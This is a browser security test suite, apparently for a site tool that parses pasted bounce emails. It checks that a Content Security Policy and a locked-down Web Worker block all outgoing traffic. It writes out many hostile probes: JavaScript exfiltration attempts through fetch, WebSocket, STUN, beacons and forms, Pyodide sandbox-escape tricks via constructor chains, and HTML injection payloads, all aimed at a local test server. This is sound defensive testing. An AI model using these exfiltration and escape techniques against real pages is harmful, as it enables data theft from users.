"""Nothing leaves: hostile Python, hostile JavaScript and hostile mail try everything, in a real browser, on a server
that sends no policy of its own. What a second server on another port would see is noted there. The page says how many
requests there were, and that is true.
"""

import contextlib
import re
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Worker, expect
from tests.browser.conftest import PATIENCE, ROOT, Console, QuietServer, Reader, SiteServer, serving

TEXT = "550 5.1.1 The email account that you tried to reach does not exist."

BLOCKED = ("Content Security Policy", "violates", "Failed to", "Refused", "net::ERR", "WebSocket")
"""What Chromium writes about attempts that were stopped."""

SETTLING: Final = 1000
"""How long an attempt may take to arrive, in milliseconds."""


# ---- the other server ----


@dataclass(slots=True)
class Elsewhere:
    """A server that nobody should ever reach. It would answer anything, to anybody."""

    url: str
    arrived: list[str] = field(default_factory=list)

    def kinds(self) -> set[str]:
        """What arrived, by the last part of its path."""
        return {path.partition("?")[0].rsplit("/", 1)[-1] for path in self.arrived}


class _Listening(BaseHTTPRequestHandler):
    elsewhere: Elsewhere

    def do_GET(self) -> None:
        self.elsewhere.arrived.append(self.path)
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        content = b"/* */" if "style" in self.path else b""
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Access-Control-Allow-Headers", "*")
        self.send_header("Content-Type", "text/css" if "style" in self.path else "text/javascript")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_HEAD = do_OPTIONS = do_PUT = do_GET  # noqa: N815 - names of the standard library

    def log_message(self, *_: object) -> None:
        """Say nothing."""


def _note_datagrams(datagrams: socket.socket, server: Elsewhere) -> None:
    with contextlib.suppress(OSError):  # closed: the test is over
        while datagrams.recv(2048):
            server.arrived.append("datagram")


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """The other server, and a socket beside it for what is no HTTP: that arrives as "datagram"."""
    server = Elsewhere("")
    handler = type("Bound", (_Listening,), {"elsewhere": server})
    with QuietServer(("127.0.0.1", 0), handler) as http, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", http.server_port))
        server.url = f"http://127.0.0.1:{http.server_port}"
        threading.Thread(target=http.serve_forever, daemon=True).start()
        threading.Thread(target=_note_datagrams, args=(datagrams, server), daemon=True).start()
        yield server
        http.shutdown()


@pytest.fixture
def without_policy(site: SiteServer, built_site: Path) -> None:
    """The home page as it was before the policy was written into it: shows that the attempts below are real."""
    page = (built_site / "index.html").read_bytes()
    stripped, count = re.subn(rb"<meta http-equiv=.Content-Security-Policy.[^>]*>", b"", page)
    assert count == 1
    site.broken[""] = lambda handler: handler.reply(200, "text/html", stripped)


# ---- attempts ----

WORKER_ATTEMPTS: Final = """
globalThis.attempts = {
  fetch: (url) => fetch(url, {mode: "no-cors"}),
  prototype: (url) => WorkerGlobalScope.prototype.fetch.call(self, url, {mode: "no-cors"}),
  xhr: (url) => { const x = new XMLHttpRequest(); x.open("GET", url); x.send(); },
  synchronous: (url) => { const x = new XMLHttpRequest(); x.open("GET", url, false); x.send(); },
  websocket: (url) => { new WebSocket(url.replace("http", "ws")); },
  events: (url) => { new EventSource(url); },
  scripts: (url) => importScripts(url),
  import: (url) => import(url),
  beacon: (url) => navigator.sendBeacon(url, "x"),
  transport: (url) => { new WebTransport(url.replace("http", "https")); },
  stun: (url) => {
    const peer = new RTCPeerConnection({iceServers: [{urls: url.replace(/https?:../, "stun:").replace(/[/].*/, "")}]});
    peer.createDataChannel("x");
    return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  },
  font: (url) => new FontFace("x", `url(${url})`).load(),
  nested: (url) => { new Worker(URL.createObjectURL(new Blob([`fetch("${url}", {mode: "no-cors"})`]))); },
  shared: (url) => { new SharedWorker(url); },
  evaluated: (url) => (0, eval)(`fetch("${url}", {mode: "no-cors"})`),
};
globalThis.attempt = async (kind, url) => {
  try {
    await Promise.race([attempts[kind](url), new Promise((resolve) => setTimeout(resolve, 300))]);
    return "did not fail";
  } catch (error) { return String(error); }
};
"""

PAGE_ATTEMPTS: Final = """async (root) => {
  const at = (name) => `${root}/${name}?secret=1`;
  const put = (tag, attributes) => {
    const element = Object.assign(document.createElement(tag), attributes);
    document.body.append(element);
    return element;
  };
  const trying = [
    () => fetch(at("fetch"), {mode: "no-cors"}),
    () => { const x = new XMLHttpRequest(); x.open("GET", at("xhr")); x.send(); },
    () => { new WebSocket(at("websocket").replace("http", "ws")); },
    () => { new EventSource(at("events")); },
    () => navigator.sendBeacon(at("beacon"), "x"),
    () => { new Image().src = at("image"); },
    () => put("img", {srcset: `${at("srcset")} 1x`}),
    () => put("script", {src: at("script")}),
    () => put("link", {rel: "stylesheet", href: at("style")}),
    () => put("iframe", {src: at("frame")}),
    () => put("video", {src: at("video")}),
    () => put("object", {data: at("object")}),
    () => put("p", {}).style.backgroundImage = `url(${at("background")})`,
    () => new FontFace("x", `url(${at("font")})`).load(),
    () => import(at("import")),
    () => put("iframe", {name: "sink"}),
    () => put("form", {action: at("form"), method: "post", target: "sink"}).submit(),
  ];
  for (const one of trying) {
    try { Promise.resolve(one()).catch(() => {}); } catch {}
  }
}"""

PAGE_KINDS: Final = set(
    "fetch xhr websocket events beacon image srcset script style frame video object background font import form".split()
)


@dataclass(slots=True)
class Inside:
    """The worker of an opened page, with Python started and hostile code in it."""

    worker: Worker

    def attempt(self, kind: str, url: str) -> str:
        """Try to reach an address; return what was thrown."""
        said: str = self.worker.evaluate("([kind, url]) => attempt(kind, url)", [kind, url])
        return said

    def python(self, code: str) -> Any:
        """Run Python; return the value of its last line, or what was raised, as text."""
        return self.worker.evaluate("code => { try { return python(code) } catch (e) { return String(e) } }", code)


type Enter = Callable[..., Inside]


@pytest.fixture
def enter(reader: Reader, page: Page, built_site: Path) -> Enter:
    """A function that opens the home page with hostile code in the pack's own worker, and waits until it is ready.

    With ``closed=False`` the worker keeps what it otherwise loses after start: then only the policy stands.
    """

    def enter(*, closed: bool = True) -> Inside:
        (path,) = (built_site / "assets" / "kakugen" / "pack").glob("*/worker.js")
        source = path.read_text("utf-8")
        close = "  closeDoors();\n"
        assert source.count(close) == 1
        python = "  globalThis.python = (code) => pyodide.runPython(code);\n"
        source = source.replace(close, python + (close if closed else ""))
        reader.site.replaced("worker.js", source + WORKER_ATTEMPTS)
        reader.open()
        reader.box.focus()
        reader.sees_state("ready")
        (worker,) = (one for one in page.workers if "attempts" in str(one.evaluate("Object.keys(globalThis)")))
        return Inside(worker)

    return enter


def worker_kinds(inside: Inside) -> list[str]:
    kinds: list[str] = inside.worker.evaluate("Object.keys(attempts)")
    return kinds


# ---- the worker ----


def test_hostile_javascript_in_the_worker_reaches_nobody(
    enter: Enter, elsewhere: Elsewhere, page: Page, console: Console
) -> None:
    console.expect(*BLOCKED)
    inside = enter()
    said = {kind: inside.attempt(kind, f"{elsewhere.url}/{kind}") for kind in worker_kinds(inside)}
    page.wait_for_timeout(SETTLING)
    assert elsewhere.arrived == []
    assert "did not fail" not in said.values()


def test_policy_of_the_page_alone_binds_the_worker_where_no_header_does(
    enter: Enter, elsewhere: Elsewhere, page: Page, console: Console
) -> None:
    console.expect(*BLOCKED)
    inside = enter(closed=False)
    for kind in worker_kinds(inside):
        inside.attempt(kind, f"{elsewhere.url}/{kind}")
    page.wait_for_timeout(SETTLING)
    assert elsewhere.arrived == []


@pytest.mark.usefixtures("without_policy")
def test_attempts_of_the_worker_do_arrive_without_policy_and_with_open_doors(
    enter: Enter, elsewhere: Elsewhere, page: Page, console: Console
) -> None:
    console.expect(*BLOCKED)
    inside = enter(closed=False)
    for kind in worker_kinds(inside):
        inside.attempt(kind, f"{elsewhere.url}/{kind}")
    page.wait_for_timeout(SETTLING)
    assert elsewhere.kinds() >= {"fetch", "prototype", "xhr", "websocket", "events", "import", "font", "nested"}


def test_closed_worker_does_not_reach_its_own_server_either(enter: Enter, reader: Reader, console: Console) -> None:
    console.expect(*BLOCKED)
    inside = enter()
    before = len(reader.site.requests)
    said = {kind: inside.attempt(kind, f"{reader.site.url}{kind}") for kind in worker_kinds(inside) if kind != "import"}
    assert len(reader.site.requests) == before
    assert "did not fail" not in said.values()


def test_nothing_that_could_send_or_store_is_left_in_the_worker(enter: Enter) -> None:
    left = enter().worker.evaluate(
        """() => ["fetch", "XMLHttpRequest", "WebSocket", "WebSocketStream", "EventSource", "importScripts",
                  "WebTransport", "RTCPeerConnection", "BroadcastChannel", "Worker", "SharedWorker", "caches",
                  "indexedDB", "FontFace"].filter((name) => name in globalThis || name in WorkerGlobalScope.prototype
                  || name in DedicatedWorkerGlobalScope.prototype)
                 .concat(["sendBeacon", "storage", "serviceWorker"].filter((name) => name in navigator))"""
    )
    assert left == []


PYTHON_ATTEMPTS: Final = {
    "js": "import js; js.fetch('URL')",
    "pyodide_js": "import pyodide_js; pyodide_js.loadPackage('URL')",
    "pyodide.http": "from pyodide.http import pyfetch; pyfetch('URL')",
    "open_url": "from pyodide.http import open_url; open_url('URL')",
    "run_js": "from pyodide.code import run_js; run_js('fetch(\"URL\")')",
    "loaded": "from pyodide._package_loader import loadedPackages as p; p.constructor.constructor('fetch(\"URL\")')()",
    "callback": "from pyodide.webloop import scheduleCallback as s; s.constructor('return fetch(\"URL\")')()",
    "socket": "import socket; socket.create_connection(('127.0.0.1', PORT), 1)",
    "urllib": "import urllib.request; urllib.request.urlopen('URL')",
    "again": "import sys; del sys.modules['js']; import js; js.fetch('URL')",
    "core": "import _pyodide_core, _pyodide._importhook as i; i.jsfinder.jsproxies['js'].fetch('URL')",
}


def test_hostile_python_reaches_nobody(enter: Enter, elsewhere: Elsewhere, page: Page, console: Console) -> None:
    console.expect(*BLOCKED)
    inside = enter()
    port = elsewhere.url.rsplit(":", 1)[-1]
    for name, code in PYTHON_ATTEMPTS.items():
        said = inside.python(code.replace("URL", f"{elsewhere.url}/{name}").replace("PORT", port))
        assert "Error" in str(said), f"{name}: {said}"
    page.wait_for_timeout(SETTLING)
    assert elsewhere.arrived == []


def test_worker_answers_after_all_was_tried(
    enter: Enter, reader: Reader, elsewhere: Elsewhere, console: Console
) -> None:
    console.expect(*BLOCKED)
    inside = enter()
    for kind in worker_kinds(inside):
        inside.attempt(kind, f"{elsewhere.url}/{kind}")
    for code in PYTHON_ATTEMPTS.values():
        inside.python(code.replace("URL", elsewhere.url).replace("PORT", "1"))
    reader.ask(TEXT)
    reader.sees_answer("bounce/userunknown")


# ---- the page ----


def test_script_in_the_page_reaches_nobody(reader: Reader, elsewhere: Elsewhere, page: Page, console: Console) -> None:
    console.expect(*BLOCKED)
    reader.open()
    page.evaluate(PAGE_ATTEMPTS, elsewhere.url)
    page.wait_for_timeout(SETTLING)
    assert elsewhere.arrived == []


@pytest.mark.usefixtures("without_policy")
def test_attempts_of_the_page_do_arrive_without_policy(
    reader: Reader, elsewhere: Elsewhere, page: Page, console: Console
) -> None:
    console.expect(*BLOCKED, "font", "MIME")
    reader.open()
    page.evaluate(PAGE_ATTEMPTS, elsewhere.url)
    page.wait_for_timeout(SETTLING)
    assert elsewhere.kinds() >= PAGE_KINDS


@pytest.mark.parametrize("path", ["", "en/"])
def test_pasted_html_stays_text(reader: Reader, elsewhere: Elsewhere, page: Page, path: str) -> None:
    url = elsewhere.url
    reader.open(path)
    reader.paste(
        f"Content-Type: text/html\n\n<img src={url}/image onerror=fetch('{url}/error')>"
        f"<script src={url}/script></script><link rel=preconnect href={url}><form action={url}/form>"
        f"<button autofocus>{TEXT}</button></form>"
        f"<iframe src={url}/frame></iframe><base href={url}/><style>@import '{url}/style';</style>"
    )
    reader.sees_answer("bounce/userunknown")
    page.wait_for_timeout(SETTLING)
    assert elsewhere.arrived == []
    expect(reader.checker.locator("[data-requests]")).to_have_attribute("data-requests", "0")


# ---- ordinary use ----


@pytest.fixture
def violations(page: Page) -> Callable[[], list[str]]:
    """A function that returns all that the policy has stopped since the page was opened."""
    page.add_init_script(
        """self.violations = [];
           document.addEventListener("securitypolicyviolation", (event) =>
             violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));"""
    )

    def stopped() -> list[str]:
        seen: list[str] = page.evaluate("violations")
        return seen

    return stopped


KINDS_OF_PAGES: Final = [
    "",
    "articles/",
    "articles/gmail-authentication-failed/",
    "maxims/",
    "maxims/two-causes/",
    "404.html",
]


@pytest.mark.parametrize("path", [*KINDS_OF_PAGES, *(f"en/{path}" for path in KINDS_OF_PAGES)])
def test_page_of_every_kind_breaks_no_rule_of_its_own(
    reader: Reader, page: Page, violations: Callable[[], list[str]], path: str
) -> None:
    reader.open(path)
    page.wait_for_load_state("networkidle")
    assert violations() == []
    policy = page.locator("head > meta").nth(1)
    expect(policy).to_have_attribute("http-equiv", "Content-Security-Policy")


def test_walk_through_the_site_breaks_no_rule(reader: Reader, page: Page, violations: Callable[[], list[str]]) -> None:
    page.goto(reader.site.url)  # with a clock that runs: Material's search waits for it
    page.evaluate("window.sameDocument = true")
    reader.paste(TEXT)
    reader.sees_answer("bounce/userunknown")
    reader.verdict.locator("[data-copy]").first.click()
    expect(reader.verdict.locator("[data-copy]").first).to_have_attribute("data-copied", "")
    for path in ("articles/", "articles/gmail-authentication-failed/", "maxims/two-causes/", "maxims/"):
        page.locator(f"a[href$='{path}']:visible").first.click()
        page.wait_for_url(f"**/{path}")
        expect(page.locator("article h1")).to_be_visible()
    page.locator("label[for=__palette_1]:visible").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-media", "(prefers-color-scheme: light)")
    page.locator(".md-search__input").click()
    page.keyboard.type("CustomFromDenied")
    # What is shown for the first letters goes again: wait for what the whole word finds.
    found = page.locator(".md-search-result__item a").first
    expect(found).to_have_attribute("href", re.compile("/articles/gmail-authentication-failed/"))
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_url("**/articles/gmail-authentication-failed/")
    assert page.evaluate("window.sameDocument") is True
    assert violations() == []
    page.locator("a[data-kakugen-language=en]:visible").click()
    expect(page.locator("html")).to_have_attribute("lang", "en")
    assert violations() == []


MKDOCS: Final = """
site_name: Example
site_url: http://published.example/
repo_url: https://github.com/example/example
theme: {name: material, features: [navigation.instant]}
plugins: [search, {kakugen: {checkers: [bounce], cache: CACHE}}]
"""


@pytest.fixture
def site_with_repository(tmp_path: Path) -> Iterator[SiteServer]:
    """A small site that names its repository: Material asks the git host how many stars it has."""
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "index.md").write_text("# Home\n\n/// checker | bounce\n///\n", "utf-8")
    configuration = MKDOCS.replace("CACHE", str(ROOT / ".cache" / "kakugen"))
    (tmp_path / "mkdocs.yml").write_text(configuration, "utf-8")
    subprocess.run([sys.executable, "-m", "mkdocs", "build", "--quiet"], cwd=tmp_path, check=True)
    with serving(tmp_path / "site") as server:
        yield server


def test_question_of_material_to_a_git_host_is_stopped_and_breaks_nothing(
    site_with_repository: SiteServer, page: Page, console: Console
) -> None:
    console.expect(*BLOCKED)
    asked: dict[str, str | None] = {}
    page.on("requestfailed", lambda request: asked.update({request.url: request.failure}))
    page.on("requestfinished", lambda request: asked.update({request.url: None}))
    page.goto(site_with_repository.url)
    expect(page.locator("[data-md-component=source]:visible").first).to_have_attribute(
        "href", "https://github.com/example/example"
    )
    page.wait_for_load_state("networkidle")
    elsewhere = {url: failure for url, failure in asked.items() if urlsplit(url).hostname == "api.github.com"}
    assert elsewhere, "it was not even tried"
    assert set(elsewhere.values()) == {"csp"}
    reader = Reader(page, site_with_repository)
    reader.ask(TEXT)
    reader.sees_answer("bounce/userunknown")
    page.locator(".md-search__input").click()
    page.keyboard.type("Home")
    expect(page.locator(".md-search-result__item").first).to_be_visible()


# ---- the count ----


@pytest.mark.parametrize(
    ("path", "line"), [("", "貼ってから外への通信：0件"), ("en/", "Requests to anywhere else since you pasted: 0")]
)
def test_page_says_that_nothing_has_left_since_the_paste(reader: Reader, path: str, line: str) -> None:
    reader.open(path)
    reader.box.focus()
    reader.sees_state("ready")
    count = reader.checker.locator("[data-requests]")
    expect(count).to_be_hidden()
    reader.paste(TEXT)
    reader.sees_answer("bounce/userunknown")
    expect(count).to_have_text(line)
    assert count.evaluate("one => one.closest('[aria-live], [role=status], [role=alert]')") is None
    reader.verdict.locator("[data-another]").first.click()
    expect(count).to_be_hidden()


def test_files_that_load_after_the_paste_are_counted_as_those_of_the_site(reader: Reader) -> None:
    reader.open()
    reader.paste(TEXT)
    reader.sees_answer("bounce/userunknown")
    count = reader.checker.locator("[data-requests]")
    expect(count).to_have_text(re.compile(r"^貼ってから外への通信：0件 · このサイトからの読み込み：\d+件$"))
    pack = [asked for asked in reader.site.requests if "/assets/kakugen/pack/" in asked.path]
    told = int(re.findall(r"\d+", count.inner_text())[1])
    # How much of the page itself was still on its way at the paste depends on the machine.
    assert len(pack) <= told <= len(reader.site.requests)


def test_request_that_the_policy_stops_is_counted_as_stopped(
    reader: Reader, page: Page, enter: Enter, elsewhere: Elsewhere, console: Console
) -> None:
    console.expect(*BLOCKED)
    inside = enter(closed=False)
    reader.box.type("x")
    inside.attempt("fetch", f"{elsewhere.url}/fetch")
    page.evaluate("url => { new Image().src = url; }", f"{elsewhere.url}/image")
    count = reader.checker.locator("[data-requests]")
    expect(count).to_have_text(re.compile("^貼ってから外への通信：0件 · 止めた通信：2件"))
    assert elsewhere.arrived == []


@pytest.mark.usefixtures("without_policy")
def test_request_that_does_leave_is_counted(reader: Reader, page: Page, enter: Enter, elsewhere: Elsewhere) -> None:
    inside = enter(closed=False)
    page.evaluate("url => fetch(url).then((answer) => answer.text())", f"{elsewhere.url}/before")
    reader.box.type("x")
    inside.attempt("xhr", f"{elsewhere.url}/worker")
    page.evaluate("url => fetch(url).then((answer) => answer.text())", f"{elsewhere.url}/page")
    # Browsers tell of a request when they find the time.
    expect(reader.checker.locator("[data-requests]")).to_have_attribute("data-requests", "2", timeout=PATIENCE)
    assert elsewhere.kinds() == {"before", "worker", "page"}
